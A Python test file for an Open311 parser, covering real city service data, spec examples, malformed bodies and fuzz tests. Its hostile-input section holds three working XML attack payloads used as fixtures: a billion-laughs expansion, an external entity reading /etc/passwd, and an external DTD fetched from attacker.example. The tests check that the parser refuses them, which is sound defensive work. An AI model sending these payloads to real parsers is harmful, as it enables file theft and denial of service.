"""Open311's answers read into our dataclasses: the real answers of real cities (Chicago's JSON,
Toronto's and Giessen's XML), the spec's own examples, and hostile or broken bodies."""

from __future__ import annotations

import contextlib
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from socialbot.errors import DataError
from socialbot.open311 import wire
from socialbot.open311.wire import Accepted, Attribute, CrmError, Format
from tests.recorded import recorded


def fixture(name: str) -> bytes:
    return recorded(f"open311/{name}").read_bytes()


def as_json(value: Any) -> bytes:
    return json.dumps(value).encode()


# ---------------------------------------------------------------------------------------------
# Real answers


def test_chicago_services_json() -> None:
    services = wire.parse_services(fixture("service_list.json"), "json")
    assert [s.code for s in services] == ["001", "002", "003"]
    cans = services[0]
    assert cans.name == "Cans left out 24x7"
    assert cans.description.startswith("Garbage or recycling cans")
    assert cans.metadata is True
    assert cans.type == "realtime"
    assert cans.keywords == ("lorem", "ipsum", "dolor")
    assert cans.group == "sanitation"
    assert services[1].group == "street"


def test_giessen_services_xml() -> None:
    services = wire.parse_services(fixture("services_giessen.xml"), "xml")
    assert len(services) == 8
    by_code = {s.code: s for s in services}
    assert by_code["010"].name == "Ampel defekt"
    assert by_code["011"].name == "Straßen- und Gehwegschäden"
    assert by_code["012"].keywords == ("graffiti", "paintings")
    assert by_code["015"].keywords == ()
    assert by_code["015"].description == ""
    assert all(s.metadata is False and s.group is None for s in services)


def test_chicago_requests_json() -> None:
    page = wire.parse_requests(fixture("service_requests.json"), "json")
    assert page.skipped == 0
    first, second = page.states
    assert first.service_request_id == "14-01100669"
    assert first.status == "open"
    assert first.extended_status is None
    assert first.status_notes is None
    assert first.requested_at == datetime(2014, 7, 12, 15, 58, 43, tzinfo=UTC)
    assert first.updated_at == datetime(2014, 7, 12, 16, 8, 21, tzinfo=UTC)
    assert first.expected_at is None
    assert first.service_code == "4ffa9cad6018277d4000007b"
    assert second.status_notes == "Locked"
    assert list(page) == page.states and len(page) == 2


def test_toronto_request_xml_single() -> None:
    page = wire.parse_requests(fixture("requests_single.xml"), "xml")
    (state,) = page.states
    assert state.service_request_id == "101005420892"
    assert state.status == "open"
    assert state.status_notes == "In progress - The request has been scheduled."
    assert state.description is None  # <description/>
    assert state.updated_at is None  # <updated_datetime/>
    assert state.requested_at == datetime(2018, 7, 30, 4, 1, tzinfo=UTC)
    assert state.expected_at == datetime(2018, 8, 3, 4, 1, tzinfo=UTC)
    assert state.service_code == "CSROWR-12"


def test_toronto_requests_xml_many() -> None:
    page = wire.parse_requests(fixture("requests_many.xml"), "xml")
    assert [s.service_request_id for s in page.states] == ["101005420892", "101005420894"]
    assert page.skipped == 0


# ---------------------------------------------------------------------------------------------
# The spec's examples (wiki.open311.org/GeoReport_v2)


def test_post_answer_with_id_json_and_xml() -> None:
    notice = "The City will inspect and require the responsible party to correct within 24 hours"
    body = as_json([{"service_request_id": 293944, "service_notice": notice, "account_id": None}])
    assert wire.parse_accepted(body, "json") == Accepted("293944", None, notice)
    xml = (
        b"<?xml version='1.0' encoding='utf-8'?><service_requests><request>"
        b"<service_request_id>293944</service_request_id>"
        b"<service_notice>" + notice.encode() + b"</service_notice><account_id/>"
        b"</request></service_requests>"
    )
    assert wire.parse_accepted(xml, "xml") == Accepted("293944", None, notice)


def test_post_answer_with_token_and_token_lookup() -> None:
    assert wire.parse_accepted(as_json([{"token": "12345"}]), "json") == Accepted(
        None, "12345", None
    )
    xml = b"<service_requests><request><token>12345</token></request></service_requests>"
    assert wire.parse_accepted(xml, "xml") == Accepted(None, "12345", None)
    # tokens/{token}: the id the token became
    body = as_json([{"service_request_id": 638344, "token": 12345}])
    assert wire.parse_accepted(body, "json") == Accepted("638344", "12345", None)
    xml = (
        b"<service_requests><request><service_request_id>638344</service_request_id>"
        b"<token>12345</token></request></service_requests>"
    )
    assert wire.parse_accepted(xml, "xml") == Accepted("638344", "12345", None)
    # one object, not the spec's array, as some endpoints answer
    body = as_json({"service_request_id": "A-1"})
    assert wire.parse_accepted(body, "json") == Accepted("A-1", None, None)


@pytest.mark.parametrize(
    ("body", "fmt"),
    [
        (b"[]", "json"),
        (b'[{"service_notice": "thanks"}]', "json"),
        (b'[{"service_request_id": null, "token": ""}]', "json"),
        (b'{"service_request_id": {"id": "1"}}', "json"),
        (b'{"request": "1"}', "json"),
        (b'[{"service_request_id": true}]', "json"),
        (b'[{"service_request_id": 1.5}]', "json"),
        (b'[{"service_request_id": "a,b"}]', "json"),
        (b'[{"service_request_id": "two words"}]', "json"),
        (b'[{"service_request_id": "' + b"9" * 200 + b'"}]', "json"),
        (b"<service_requests/>", "xml"),
        (b"<errors><error><code>400</code></error></errors>", "xml"),
    ],
)
def test_accepted_without_an_id_or_token_is_a_data_error(body: bytes, fmt: Format) -> None:
    with pytest.raises(DataError):
        wire.parse_accepted(body, fmt)


def test_errors_body_json_and_xml() -> None:
    body = as_json(
        [
            {"code": 403, "description": "Invalid api_key received -- can't proceed."},
            {"code": 404, "description": "Whoops - service_code was not found."},
        ]
    )
    assert wire.parse_errors(body, "json") == [
        CrmError("403", "Invalid api_key received -- can't proceed."),
        CrmError("404", "Whoops - service_code was not found."),
    ]
    xml = (
        b'<?xml version="1.0" encoding="utf-8"?><errors><error><code>403</code>'
        b"<description>Invalid api_key received -- can't proceed.</description></error>"
        b"</errors>"
    )
    assert wire.parse_errors(xml, "xml") == [
        CrmError("403", "Invalid api_key received -- can't proceed.")
    ]
    # one error, not in a list, as some endpoints write it
    one = as_json({"code": "BadRequest", "description": "lat is required"})
    assert wire.parse_errors(one, "json") == [CrmError("BadRequest", "lat is required")]


@pytest.mark.parametrize(
    ("body", "fmt"),
    [
        (b"", "json"),
        (b"<html><body>502 Bad Gateway</body></html>", "json"),
        (b"<html><body>502 Bad Gateway</body></html>", "xml"),
        (b"[1, 2, null]", "json"),
        (b'{"message": "no"}', "json"),
        (b"\xff\xfe\x00", "xml"),
    ],
)
def test_errors_body_that_is_none_is_empty(body: bytes, fmt: Format) -> None:
    assert wire.parse_errors(body, fmt) == []


def test_errors_description_is_cut_and_storable() -> None:
    body = as_json([{"code": 400, "description": "x\u0000" + "y" * 5000}])
    (error,) = wire.parse_errors(body, "json")
    assert len(error.description) == wire.MAX_ERROR and "\x00" not in error.description


DEFINITION = {
    "service_code": "DMV66",
    "attributes": [
        {
            "variable": True,
            "code": "WHISHETN",
            "datatype": "singlevaluelist",
            "required": True,
            "datatype_description": None,
            "order": 1,
            "description": "What is the ticket/tag/DL number?",
            "values": [{"key": 123, "name": "Ford"}, {"key": 124, "name": "Chrysler"}],
        },
        {
            "variable": False,
            "code": "NOTE",
            "datatype": "text",
            "required": True,
            "order": 3,
            "description": "Please be patient.",
        },
        {"variable": True, "code": "PLATE", "datatype": "string", "required": False, "order": 2},
    ],
}
DEFINITION_XML = b"""<?xml version="1.0" encoding="utf-8"?>
<service_definition>
  <service_code>DMV66</service_code>
  <attributes>
    <attribute>
      <variable>true</variable><code>WHISHETN</code><datatype>singlevaluelist</datatype>
      <required>true</required><datatype_description></datatype_description><order>1</order>
      <description>What is the ticket/tag/DL number?</description>
      <values>
        <value><key>123</key><name>Ford</name></value>
        <value><key>124</key><name>Chrysler</name></value>
      </values>
    </attribute>
    <attribute>
      <variable>false</variable><code>NOTE</code><datatype>text</datatype>
      <required>true</required><order>3</order><description>Please be patient.</description>
    </attribute>
    <attribute>
      <variable>true</variable><code>PLATE</code><datatype>string</datatype>
      <required>false</required><order>2</order><description/>
    </attribute>
  </attributes>
</service_definition>"""


@pytest.mark.parametrize(("body", "fmt"), [(as_json(DEFINITION), "json"), (DEFINITION_XML, "xml")])
def test_service_definition(body: bytes, fmt: Format) -> None:
    definition = wire.parse_definition(body, fmt)
    assert definition.code == "DMV66"
    assert [a.code for a in definition.attributes] == ["WHISHETN", "PLATE", "NOTE"]  # by order
    assert definition.attributes[0] == Attribute(
        code="WHISHETN",
        datatype="singlevaluelist",
        required=True,
        description="What is the ticket/tag/DL number?",
        values=(("123", "Ford"), ("124", "Chrysler")),
        variable=True,
        order=1,
    )
    assert definition.attributes[2].variable is False
    # an information-only attribute is never one we must fill, required or not
    assert [a.code for a in definition.required] == ["WHISHETN"]


def test_definition_without_attributes() -> None:
    xml = b"<service_definition><service_code>7</service_code><attributes/></service_definition>"
    assert wire.parse_definition(xml, "xml") == wire.ServiceDefinition("7", ())
    assert wire.parse_definition(as_json({"service_code": 7}), "json").attributes == ()
    assert wire.parse_definition(as_json([DEFINITION]), "json").code == "DMV66"


@pytest.mark.parametrize(
    "change",
    [
        {"required": "maybe"},
        {"order": "first"},
        {"order": 10**12},
        {"code": ["x"]},
        {"code": ""},
        {"datatype": None},
        {"values": "Ford"},
        {"values": [{"name": "no key"}]},
        {"variable": 2},
    ],
)
def test_definition_attribute_of_a_wrong_type_fails_the_definition(change: dict[str, Any]) -> None:
    body = json.loads(json.dumps(DEFINITION))
    body["attributes"][0].update(change)
    with pytest.raises(DataError, match=r"attributes\[0\]"):
        wire.parse_definition(as_json(body), "json")


# ---------------------------------------------------------------------------------------------
# Requests: extended statuses, one bad item among good ones, wrong types


def request(**fields: Any) -> dict[str, Any]:
    item: dict[str, Any] = {"service_request_id": "1", "status": "open"}
    item.update(fields)
    return item


def test_extended_status_in_its_own_field_and_as_the_status() -> None:
    body = as_json(
        [
            request(
                service_request_id="1",
                status="closed",
                extended_status="not_councils_responsibility",
            ),
            request(service_request_id="2", status="FIXED"),
            request(service_request_id="3", status="Action scheduled"),
            request(service_request_id="4", status="fixed - council"),
            request(service_request_id="5", status="CLOSED"),
            request(service_request_id="6", status="Waiting for parts"),
        ]
    )
    states = wire.parse_requests(body, "json").states
    assert [(s.status, s.extended_status) for s in states] == [
        ("closed", "NOT_COUNCILS_RESPONSIBILITY"),
        ("closed", "FIXED"),
        ("open", "ACTION_SCHEDULED"),
        ("closed", "FIXED_COUNCIL"),
        ("closed", None),
        ("open", "WAITING_FOR_PARTS"),  # kept to be shown; nothing done on a guess
    ]


def test_an_unreadable_request_is_skipped_and_counted() -> None:
    body = as_json(
        [
            request(service_request_id="ok-1"),
            request(service_request_id=None),
            "not an object",
            request(service_request_id="no-status", status=None),
            request(service_request_id={"id": 1}),
            request(service_request_id="ok-2", status="closed", requested_datetime="yesterday"),
        ]
    )
    page = wire.parse_requests(body, "json")
    assert [s.service_request_id for s in page.states] == ["ok-1", "ok-2"]
    assert page.skipped == 4 and len(page.problems) == 4
    assert page.states[1].requested_at is None  # a date is never worth losing the request


def test_dates_without_offset_and_with_z_are_utc() -> None:
    body = as_json(
        [
            request(
                requested_datetime="2024-03-01T10:00:00Z", updated_datetime="2024-03-01T10:00:00"
            ),
        ]
    )
    (state,) = wire.parse_requests(body, "json").states
    assert state.requested_at == state.updated_at == datetime(2024, 3, 1, 10, tzinfo=UTC)


def test_requests_wrapped_in_an_object_and_in_a_namespace() -> None:
    body = as_json({"service_requests": [request(service_request_id="7")]})
    assert [s.service_request_id for s in wire.parse_requests(body, "json")] == ["7"]
    xml = (
        b'<service_requests xmlns="urn:example"><request><service_request_id>8'
        b"</service_request_id><status>closed</status></request></service_requests>"
    )
    assert [s.service_request_id for s in wire.parse_requests(xml, "xml")] == ["8"]


@pytest.mark.parametrize(
    ("item", "field"),
    [
        ({"service_code": None}, "service_code"),
        ({"service_code": ["001"]}, "service_code"),
        ({"service_code": "001", "metadata": "sometimes"}, "metadata"),
        ("001", r"services\[0\]"),
    ],
)
def test_services_of_a_wrong_type(item: Any, field: str) -> None:
    with pytest.raises(DataError, match=field):
        wire.parse_services(as_json([item]), "json")


def test_services_numbers_and_strings_as_xml_writes_them() -> None:
    body = as_json([{"service_code": 12, "metadata": "true", "keywords": ["a", 3, "b"]}])
    (service,) = wire.parse_services(body, "json")
    assert service == wire.Service("12", "12", "", True, "realtime", ("a", "b"), None)


# ---------------------------------------------------------------------------------------------
# FixMyStreet's servicerequestupdates extension

UPDATES_XML = b"""<?xml version="1.0" encoding="utf-8"?>
<service_requests_updates>
  <request_update>
    <update_id>9001</update_id>
    <service_request_id>14-01100669</service_request_id>
    <status>ACTION_SCHEDULED</status>
    <description>Crew booked for Tuesday</description>
    <updated_datetime>2024-05-02T09:30:00+01:00</updated_datetime>
    <media_url/>
  </request_update>
  <request_update>
    <update_id>9002</update_id>
    <service_request_id>14-01100669</service_request_id>
    <status>CLOSED</status>
    <description></description>
    <updated_datetime></updated_datetime>
    <media_url>https://crm.example/after.jpg</media_url>
  </request_update>
  <request_update><update_id>9003</update_id><status>FIXED</status></request_update>
</service_requests_updates>"""


def test_updates_xml() -> None:
    page = wire.parse_updates(UPDATES_XML, "xml")
    scheduled, closed = page.updates
    assert page.skipped == 1 and "service_request_id" in page.problems[0]
    assert scheduled.update_id == "9001" and scheduled.service_request_id == "14-01100669"
    assert (scheduled.status, scheduled.extended_status) == ("open", "ACTION_SCHEDULED")
    assert scheduled.description == "Crew booked for Tuesday"
    assert scheduled.updated_at == datetime(2024, 5, 2, 8, 30, tzinfo=UTC)
    assert scheduled.media_url is None
    assert (closed.status, closed.extended_status, closed.description) == ("closed", None, None)
    assert closed.media_url == "https://crm.example/after.jpg"
    # read as a state, the note is the status notes: what closure_of and the sync read
    assert scheduled.state.status_notes == "Crew booked for Tuesday"
    assert scheduled.state.extended_status == "ACTION_SCHEDULED"


def test_updates_json_plain_and_wrapped() -> None:
    item = {"update_id": 5, "service_request_id": 6, "status": "fixed", "media_url": "file:///x"}
    for body in (
        [item],
        {"service_requests_updates": [item]},
        {"service_requests_updates": [{"request_update": item}]},
    ):
        (update,) = wire.parse_updates(as_json(body), "json")
        assert (update.update_id, update.service_request_id) == ("5", "6")
        assert (update.status, update.extended_status) == ("closed", "FIXED")
        assert update.media_url is None  # only a web address is one


# ---------------------------------------------------------------------------------------------
# Hostile and broken bodies

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<service_requests><request><service_request_id>&lol4;</service_request_id>
<status>open</status></request></service_requests>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<services><service><service_code>&secret;</service_code></service></services>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE services SYSTEM "http://attacker.example/evil.dtd">
<services><service><service_code>1</service_code></service></services>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_hostile_xml_is_refused(body: bytes) -> None:
    with pytest.raises(DataError, match="refused"):
        wire.parse_requests(body, "xml")
    with pytest.raises(DataError, match="refused"):
        wire.parse_services(body, "xml")
    assert wire.parse_errors(body, "xml") == []


def test_an_oversized_body_is_refused_unread() -> None:
    body = b"[" + b" " * wire.MAX_BODY + b"]"
    for parse in (
        wire.parse_services,
        wire.parse_requests,
        wire.parse_accepted,
        wire.parse_updates,
    ):
        with pytest.raises(DataError, match="at most"):
            parse(body, "json")
    with pytest.raises(DataError, match="at most"):
        wire.parse_definition(body, "xml")
    assert wire.parse_errors(body, "json") == []


@pytest.mark.parametrize(
    ("body", "fmt", "problem"),
    [
        (b"", "json", "not JSON"),
        (b"\xff\xfe", "json", "not UTF-8"),
        (b"[NaN]", "json", "not JSON"),
        (b"[" * 100_000 + b"]" * 100_000, "json", "nested too deeply"),
        (b"<services><service>", "xml", "not XML"),
        (b"<requests/>", "xml", "root is"),
        (b'{"services": "none"}', "json", "expected a list"),
        (b"<service_requests/>", "json", "not JSON"),
    ],
)
def test_unreadable_bodies(body: bytes, fmt: Format, problem: str) -> None:
    with pytest.raises(DataError, match=problem):
        wire.parse_services(body, fmt) if b"services" in body else wire.parse_requests(body, fmt)


def test_deeply_nested_xml_is_a_data_error() -> None:
    body = (
        b"<service_requests><request>"
        + b"<a>" * 50_000
        + b"</a>" * 50_000
        + b"</request></service_requests>"
    )
    with pytest.raises(DataError):
        wire.parse_requests(body, "xml")


def test_xml_in_latin_1_with_a_bom_comments_and_cdata() -> None:
    latin = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><services><!-- Gießen -->'
        "<service><service_code>011</service_code>"
        "<service_name><![CDATA[Straßen- & Gehwegschäden]]></service_name></service>"
        "</services>"
    ).encode("latin-1")
    (service,) = wire.parse_services(latin, "xml")
    assert service.name == "Straßen- & Gehwegschäden"
    bom = b"\xef\xbb\xbf" + fixture("services_giessen.xml")
    assert len(wire.parse_services(bom, "xml")) == 8
    assert len(wire.parse_services(b"\xef\xbb\xbf" + fixture("service_list.json"), "json")) == 3


# ---------------------------------------------------------------------------------------------
# Fuzz: whatever the CRM sends, a DataError or an answer; never anything else

JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)
FIELDS = st.sampled_from(
    [
        "service_request_id",
        "status",
        "extended_status",
        "status_notes",
        "description",
        "requested_datetime",
        "updated_datetime",
        "expected_datetime",
        "service_code",
        "service_name",
        "metadata",
        "type",
        "keywords",
        "group",
        "token",
        "service_notice",
        "code",
        "datatype",
        "required",
        "variable",
        "order",
        "values",
        "attributes",
        "key",
        "name",
        "update_id",
        "media_url",
    ]
)
RECORDS = st.dictionaries(FIELDS, JSON_VALUES, max_size=8)
BODIES = st.one_of(
    st.binary(max_size=200),
    st.lists(RECORDS, max_size=4).map(as_json),
    RECORDS.map(as_json),
    JSON_VALUES.map(as_json),
)
XML_TEXT = st.text(
    st.characters(blacklist_categories=["Cs"], blacklist_characters="<&\x00"), max_size=12
)


@st.composite
def xml_bodies(draw: st.DrawFn) -> bytes:
    root, item = draw(
        st.sampled_from(
            [
                ("services", "service"),
                ("service_requests", "request"),
                ("errors", "error"),
                ("service_definition", "attributes"),
                ("service_requests_updates", "request_update"),
            ]
        )
    )
    items = []
    for _ in range(draw(st.integers(0, 3))):
        fields = draw(st.dictionaries(FIELDS, XML_TEXT, max_size=6))
        items.append(
            f"<{item}>" + "".join(f"<{k}>{v}</{k}>" for k, v in fields.items()) + f"</{item}>"
        )
    return f"<{root}>{''.join(items)}</{root}>".encode()


PARSERS = [
    wire.parse_services,
    wire.parse_definition,
    wire.parse_accepted,
    wire.parse_requests,
    wire.parse_updates,
]


@pytest.mark.parametrize("parse", PARSERS, ids=lambda p: p.__name__)
@settings(max_examples=200, deadline=None)
@given(body=st.one_of(BODIES, xml_bodies()), fmt=st.sampled_from(wire.FORMATS))
def test_fuzz_parsers_raise_only_data_error(parse: Any, body: bytes, fmt: Format) -> None:
    with contextlib.suppress(DataError):
        parse(body, fmt)


@settings(max_examples=300, deadline=None)
@given(body=st.one_of(BODIES, xml_bodies()), fmt=st.sampled_from(wire.FORMATS))
def test_fuzz_parse_errors_never_raises(body: bytes, fmt: Format) -> None:
    for error in wire.parse_errors(body, fmt):
        assert isinstance(error.code, str) and isinstance(error.description, str)
        assert len(error.description) <= wire.MAX_ERROR


@settings(max_examples=200, deadline=None)
@given(st.lists(RECORDS, max_size=5))
def test_fuzz_requests_every_item_read_or_counted(items: list[dict[str, Any]]) -> None:
    page = wire.parse_requests(as_json(items), "json")
    assert len(page.states) + page.skipped == len(items)
    for state in page.states:
        assert state.status in ("open", "closed")
        assert 0 < len(state.service_request_id) <= wire.MAX_ID
        assert "," not in state.service_request_id
        for moment in (state.requested_at, state.updated_at, state.expected_at):
            assert moment is None or moment.tzinfo is UTC


@settings(max_examples=300, deadline=None)
@given(
    index=st.integers(0, 1),
    name=st.sampled_from(
        [
            "service_request_id",
            "status",
            "status_notes",
            "description",
            "requested_datetime",
            "updated_datetime",
            "expected_datetime",
            "service_code",
        ]
    ),
    value=JSON_VALUES,
)
def test_fuzz_chicago_with_one_value_of_any_type(index: int, name: str, value: Any) -> None:
    """Chicago's real answer with one value changed to anything JSON can say: the other request
    is always read, the changed one read or counted."""
    items = json.loads(fixture("service_requests.json"))
    items[index][name] = value
    page = wire.parse_requests(as_json(items), "json")
    assert len(page.states) + page.skipped == 2
    assert items[1 - index]["service_request_id"] in [s.service_request_id for s in page.states]
